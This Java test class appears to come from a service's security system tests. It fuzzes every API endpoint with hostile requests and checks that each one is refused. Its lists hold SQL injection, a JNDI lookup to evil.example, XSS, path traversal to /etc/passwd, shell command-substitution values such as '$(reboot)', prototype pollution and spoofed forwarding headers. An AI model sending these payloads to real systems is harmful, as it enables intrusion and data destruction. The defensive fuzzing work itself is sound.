package io.rotender.systemtests.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Builds malformed and hostile requests for every endpoint of the catalogue, each with the right credential
 * so it reaches the service's own checks: every leaf of a valid body replaced by wrong types, unsafe text,
 * overlong text, out-of-range numbers and (where the field is an id, enumeration or code) injection strings
 * and unicode edge cases; broken JSON; huge and deeply nested bodies; wrong content types and header abuse;
 * hostile path ids, query parameters and methods; then random combinations of those until the target count.
 * A hostile request to a mutating endpoint is built so that it can never be valid: the service must refuse
 * it. Values are raw JSON fragments, so text JSON writers would refuse (lone surrogates, NaN) can be sent.
 */
final class HostileRequests {

    private static final String BIG = "x".repeat(5001);
    /** Any field: values of the wrong JSON type. */
    static final List<String> WRONG_TYPES = List.of("[]", "{}", "[1,2]", "{\"$gt\":\"\"}", "true");
    /** Text fields: wrong types, unsafe characters and overlong text. */
    static final List<String> BAD_TEXT = List.of("123", "1.5", "false", "[\"a\"]", "{\"a\":1}", "\"a\\u0000b\"", "\"\\ud800\"",
            "\"\\udc00x\"", "\"bell\\u0007\"", "\"\\u001b[31mred\"", "\"del\\u007f\"", "\"" + BIG + "\"",
            "\"" + "\\ud83c\\udf78".repeat(2600) + "\"");
    /** Ids, enumerations, codes, URLs: anything that is not one. */
    static final List<String> BAD_CONSTRAINED = List.of("\"\"", "\" \"", "\"' OR '1'='1\"", "\"'; DROP TABLE orders;--\"",
            "\"${jndi:ldap://evil.example/a}\"", "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"", "\"%00\"",
            "\"{{7*7}}\"", "\"\\u202eevil\"", "\"demo\\u200bbar\"", "\"\\u0414\\u0415\\u041c\\u041e\"", "\"\\ud83c\\udf78\"",
            "\"12 34\"", "\"x\\ny\"", "\"a b\"", "\"$(reboot)\"", "\"`id`\"",
            "\"\\\\x00\"", "\"*\"");
    /** Number fields. */
    static final List<String> BAD_NUMBERS = List.of("\"12\"", "-1", "-0.001", "1e999", "99999999999999999999999", "1.005",
            "NaN", "Infinity", "-Infinity", "0x10", "+1", "01", "1_000", "\"\"", "[]", "{}", "true", "1e-999999");
    static final List<String> BAD_BOOLEANS = List.of("1", "0", "\"true\"", "\"yes\"", "[]", "{}", "\"\"");
    static final List<String> BAD_ARRAYS = List.of("{}", "\"x\"", "1", "[null]", "[[]]", "[1]", "[{}, 1]", "true");
    static final List<String> BAD_OBJECTS = List.of("[]", "\"x\"", "1", "true", "{\"unknown_field\":1}", "[{}]");
    static final List<String> BROKEN_JSON = List.of("{", "}", "{\"a\":", "[", "\"str\"", "123", "true", "null", "[]",
            "{'single':'quotes'}", "{\"a\":1,}", "{/*comment*/}", "\uFEFF{}", "{\"a\":NaN}", "{\"a\":1e99999999}",
            "{\"a\":\"\\x41\"}", "{\"a\":\"\\u12\"}", "\u0000", "{}{}", "{\"a\":1}garbage", "{\"a\" 1}", "{a:1}",
            "{\"a\":\"unterminated}", "[1,2", "{\"a\":[}", "{\"\":\"\"}", "{\"a\":tru}", "{\"a\":-}", "{\"a\":.5}",
            "{\"a\":1.}", "{\"a\":\"\t\"}", "\"\\ud800\"", "{\"__proto__\":{\"admin\":true}}", "{\"constructor\":{\"prototype\":{}}}");
    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/json; charset=nonsense",
            "application/json, text/html", "application/jsonp", "application/*", "*/*", "text/html", "application/json;;;",
            "image/png", "application/octet-stream", "");
    static final List<String> ACCEPTS = List.of("text/html", "application/xml", "*/*;q=0", "garbage", "image/png;q=1,*/*;q=0");
    static final List<String> PATH_IDS = List.of(Catalogue.ID_TOO_LONG, "%00", "%2e%2e", "..", ".", "%2F", "a;b", "a%3Bb",
            "%E2%80%AE", "%F0%9F%8D%B8", "%C3%28", "%27%20OR%20%271%27%3D%271", "%27", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
            "x%0d%0aSet-Cookie%3Aa%3Db", "*", "~", "%20", "a%20b", "%25", "%2e", "..%2f..%2fadmin", "%u0041", "%ff");
    static final List<String> QUERY_VALUES = List.of("", " ", "-1", "0", "201", "99999999999999999999", "1e3", "NaN", "null",
            "' OR '1'='1", "'; DROP TABLE orders;--", "${jndi:ldap://x/a}", "<script>", "\u0000", "\u202e", "x".repeat(3000),
            "2026-13-45T99:99:99Z", "yesterday", "[]", "{}", "true");
    static final List<String> AUTHORIZATIONS = List.of("Bearer", "Bearer ", "Bearer rtk_", "Bearer rtk_a.b", "Bearer rtk_..",
            "Bearer " + "A".repeat(8000), "Basic YWRtaW46YWRtaW4=", "Token token=\"\"", "Token token=", "Bearer null",
            "Bearer undefined", "Bearer ' OR '1'='1", "Digest username=\"admin\"", "Bearer rtk_x.y.z", "NTLM TlRMTVNTUAAB");
    static final List<String> METHODS = List.of("PATCH", "OPTIONS", "HEAD", "TRACE", "FOO", "PROPFIND");

    /** A hostile body and what makes it hostile. */
    record Variant(String what, String body) {
    }

    private final ObjectMapper mapper;
    private final Credentials creds;

    HostileRequests(ObjectMapper mapper, Credentials creds) {
        this.mapper = mapper;
        this.creds = creds;
    }

    /** Every systematic hostile request, then random combinations up to {@code target}. */
    List<Http.Call> build(List<Endpoint> endpoints, int target, long seed) {
        List<Http.Call> calls = new ArrayList<>();
        Map<Endpoint, List<Variant>> bodies = new LinkedHashMap<>();
        for (Endpoint e : endpoints) {
            List<Variant> hostileBodies = e.body() == null ? List.of() : hostileBodies(e);
            bodies.put(e, hostileBodies);
            for (Variant body : hostileBodies) {
                calls.add(call(e, "body: " + body.what(), e.method(), e.path(), e.query(), jsonHeaders(e), body.body()));
            }
            headerAbuse(e, calls);
            pathAbuse(e, calls);
            queryAbuse(e, calls);
            for (String method : METHODS) {
                calls.add(call(e, "method", method, e.path(), e.query(), jsonHeaders(e), invalidBody(e)));
            }
        }
        Random random = new Random(seed);
        List<Endpoint> withBodies = endpoints.stream().filter(e -> !bodies.get(e).isEmpty()).toList();
        while (calls.size() < target) { // two or three defects at once
            Endpoint e = withBodies.get(random.nextInt(withBodies.size()));
            List<Variant> pool = bodies.get(e);
            Variant body = pool.get(random.nextInt(pool.size()));
            Map<String, String> headers = jsonHeaders(e);
            String path = e.path();
            Map<String, String> query = new LinkedHashMap<>(e.query());
            switch (random.nextInt(4)) {
                case 0 -> headers.put("Accept", ACCEPTS.get(random.nextInt(ACCEPTS.size())));
                case 1 -> {
                    if (!e.ids().isEmpty()) {
                        String param = e.ids().keySet().iterator().next();
                        path = e.path(param, PATH_IDS.get(random.nextInt(PATH_IDS.size())));
                    }
                }
                case 2 -> query.put("q" + random.nextInt(5), QUERY_VALUES.get(random.nextInt(QUERY_VALUES.size())));
                default -> headers.put("Content-Type", CONTENT_TYPES.get(random.nextInt(CONTENT_TYPES.size())));
            }
            calls.add(call(e, "combined: " + body.what(), e.method(), path, query, headers, body.body()));
        }
        return calls;
    }

    /** Hostile variants of the endpoint's valid body, each refused for at least one reason. */
    List<Variant> hostileBodies(Endpoint e) {
        List<Variant> out = new ArrayList<>();
        List<String> pointers = new ArrayList<>();
        leaves(e.body(), "", pointers);
        for (String pointer : pointers) {
            JsonNode leaf = e.body().at(pointer);
            List<String> values = new ArrayList<>();
            if (leaf.isTextual()) {
                values.addAll(BAD_TEXT);
                if (e.constrained().contains(pointer)) {
                    values.addAll(BAD_CONSTRAINED);
                }
            } else if (leaf.isNumber()) {
                values.addAll(BAD_NUMBERS);
            } else if (leaf.isBoolean()) {
                values.addAll(BAD_BOOLEANS);
            } else if (leaf.isArray()) {
                values.addAll(BAD_ARRAYS);
                values.add(hugeArray(leaf));
            } else if (leaf.isObject()) {
                values.addAll(BAD_OBJECTS);
            }
            for (String value : values) {
                out.add(new Variant(pointer + " = " + abbreviate(value), replace(e.body(), pointer, value)));
            }
        }
        // structural: an unknown field anywhere, a field given twice, broken JSON, huge and deep bodies
        List<String> objects = new ArrayList<>();
        objects(e.body(), "", objects);
        for (String pointer : objects) {
            for (String name : List.of("unknown_field", "__proto__", "admin", "is_admin", "$where")) {
                JsonNode copy = e.body().deepCopy();
                ((ObjectNode) (pointer.isEmpty() ? copy : copy.at(pointer))).put(name, true);
                out.add(new Variant("unknown field " + pointer + "/" + name, write(copy)));
            }
        }
        String valid = write(e.body());
        Iterator<String> first = e.body().fieldNames();
        if (first.hasNext()) {
            String name = first.next();
            out.add(new Variant("duplicate field " + name, valid.substring(0, valid.length() - 1) + ",\"" + name + "\":"
                    + write(e.body().get(name)) + "}"));
        }
        for (String broken : BROKEN_JSON) {
            out.add(new Variant("broken JSON " + abbreviate(broken), broken));
        }
        out.add(new Variant("truncated", valid.substring(0, valid.length() / 2)));
        out.add(new Variant("twice", valid + valid));
        out.add(new Variant("in an array", "[" + valid + "]"));
        out.add(new Variant("wrapped", "{\"wrapper\":" + valid + "}"));
        out.add(new Variant("single quotes", valid.replace("\"", "'")));
        out.add(new Variant("10000 nested arrays", "[".repeat(10000) + "]".repeat(10000)));
        out.add(new Variant("5000 nested objects", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000)));
        out.add(new Variant("200 KB", valid.substring(0, valid.length() - 1) + ",\"padding\":\"" + "p".repeat(200_000) + "\"}"));
        out.add(new Variant("20000 keys", "{" + "\"k\":1,".repeat(20000) + "\"k\":1}"));
        out.add(new Variant("invalid UTF-8", new String(new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}, StandardCharsets.ISO_8859_1)));
        return out;
    }

    private void headerAbuse(Endpoint e, List<Http.Call> calls) {
        String body = invalidBody(e);
        for (String type : CONTENT_TYPES) {
            Map<String, String> headers = jsonHeaders(e);
            headers.put("Content-Type", type);
            calls.add(call(e, "content-type", e.method(), e.path(), e.query(), headers, body == null ? "{}" : body));
        }
        for (String accept : ACCEPTS) {
            Map<String, String> headers = jsonHeaders(e);
            headers.put("Accept", accept);
            calls.add(call(e, "accept", e.method(), e.path(), e.query(), headers, body));
        }
        for (String authorization : AUTHORIZATIONS) {
            Map<String, String> headers = jsonHeaders(e);
            headers.put("Authorization", authorization);
            calls.add(call(e, "authorization", e.method(), e.path(), e.query(), headers, e.body() == null ? null : write(e.body())));
        }
        Map<String, String> spoof = jsonHeaders(e);
        spoof.put("X-Original-URL", "/admin/venues/demo-bar");
        spoof.put("X-Rewrite-URL", "/admin/venues/demo-bar");
        spoof.put("X-HTTP-Method-Override", "DELETE");
        spoof.put("X-Forwarded-For", "127.0.0.1, ' OR 1=1");
        spoof.put("X-Forwarded-Proto", "https");
        spoof.put("X-Forwarded-Host", "evil.example");
        calls.add(call(e, "spoofing headers", e.method(), e.path(), e.query(), spoof, body));
        Map<String, String> many = jsonHeaders(e);
        for (int i = 0; i < 150; i++) {
            many.put("X-Filler-" + i, "v".repeat(100));
        }
        calls.add(call(e, "many headers", e.method(), e.path(), e.query(), many, body));
        Map<String, String> huge = jsonHeaders(e);
        huge.put("X-Huge", "h".repeat(40_000));
        calls.add(call(e, "huge header", e.method(), e.path(), e.query(), huge, body));
        if (e.template().equals("/venues/{venueId}/orders") && e.method().equals("POST")) {
            for (String key : List.of("a b", "x".repeat(101), "tab\there", "\u007f", "k\u0080")) {
                Map<String, String> headers = jsonHeaders(e);
                headers.put("Idempotency-Key", key);
                calls.add(call(e, "idempotency key", e.method(), e.path(), e.query(), headers, write(e.body())));
            }
        }
    }

    private void pathAbuse(Endpoint e, List<Http.Call> calls) {
        for (String param : e.ids().keySet()) {
            for (String id : PATH_IDS) {
                calls.add(call(e, "path " + param, e.method(), e.path(param, id), e.query(), jsonHeaders(e), invalidBody(e)));
            }
        }
        for (String suffix : List.of("/", "//", "/..", "/%2e%2e/admin", ";x=1", "/extra/segments/here", "?a=%", "#frag")) {
            calls.add(call(e, "path suffix", e.method(), e.path() + suffix, Map.of(), jsonHeaders(e), invalidBody(e)));
        }
    }

    private void queryAbuse(Endpoint e, List<Http.Call> calls) {
        List<String> params = new ArrayList<>(e.query().keySet());
        if (e.family() == Family.PORTOS) {
            params.add("key");
        }
        for (String param : params) {
            for (String value : QUERY_VALUES) {
                Map<String, String> query = new LinkedHashMap<>(e.query());
                if (e.family() == Family.PORTOS && !param.equals("key")) {
                    query.put("key", creds.portosKey());
                }
                query.put(param, value);
                calls.add(call(e, "query " + param, e.method(), e.path(), query, jsonHeaders(e), invalidBody(e)));
            }
        }
    }

    /** Credentials that let the request reach the endpoint's own checks. */
    Map<String, String> jsonHeaders(Endpoint e) {
        Map<String, String> headers = new LinkedHashMap<>();
        switch (e.family()) {
            case ADMIN -> headers.put("Authorization", Credentials.bearer(creds.admin()));
            case PARTNER, PARTNER_ACCOUNT -> headers.put("Authorization", Credentials.bearer(creds.partnerA()));
            case RESTAUMATIC -> headers.put("Authorization", Credentials.restaumatic(creds.hookToken()));
            default -> {
            }
        }
        headers.put("Content-Type", "application/json");
        headers.put("Accept", "application/json");
        return headers;
    }

    private Http.Call call(Endpoint e, String kind, String method, String path, Map<String, String> query,
                           Map<String, String> headers, String body) {
        Map<String, String> q = new LinkedHashMap<>(query);
        if (e.family() == Family.PORTOS && !q.containsKey("key")) {
            q.put("key", creds.portosKey());
        }
        String url = Http.url(e.baseUrl(), path, q);
        return new Http.Call(e.key() + " [" + kind + "]", method, url, headers,
                body == null ? null : body.getBytes(body.startsWith("\u00C3") ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8));
    }

    /** A body the endpoint must refuse whatever else the request holds (null for endpoints without one). */
    private String invalidBody(Endpoint e) {
        if (e.body() == null) {
            return null;
        }
        ObjectNode copy = (ObjectNode) e.body().deepCopy();
        copy.put("fuzz_unknown_field", true);
        return write(copy);
    }

    private static void leaves(JsonNode node, String pointer, List<String> out) {
        if (!pointer.isEmpty()) {
            out.add(pointer);
        }
        if (node.isObject()) {
            node.fields().forEachRemaining(f -> leaves(f.getValue(), pointer + "/" + f.getKey(), out));
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                leaves(node.get(i), pointer + "/" + i, out);
            }
        }
    }

    private static void objects(JsonNode node, String pointer, List<String> out) {
        if (node.isObject()) {
            out.add(pointer);
            node.fields().forEachRemaining(f -> objects(f.getValue(), pointer + "/" + f.getKey(), out));
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                objects(node.get(i), pointer + "/" + i, out);
            }
        }
    }

    /** The body as JSON text with the node at {@code pointer} replaced by a raw JSON fragment. */
    private String replace(JsonNode body, String pointer, String raw) {
        JsonNode copy = body.deepCopy();
        String marker = "__hostile_value_marker__";
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent.isArray()) {
            ((ArrayNode) parent).set(Integer.parseInt(last), TextNode.valueOf(marker));
        } else {
            ((ObjectNode) parent).set(last, TextNode.valueOf(marker));
        }
        return write(copy).replace("\"" + marker + "\"", raw);
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 40) + "...(" + value.length() + " chars)" : value;
    }

    private String hugeArray(JsonNode array) {
        String element = array.isEmpty() ? "1" : write(array.get(0));
        return "[" + String.join(",", java.util.Collections.nCopies(1000, element)) + "]";
    }

    private String write(JsonNode node) {
        try {
            return mapper.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
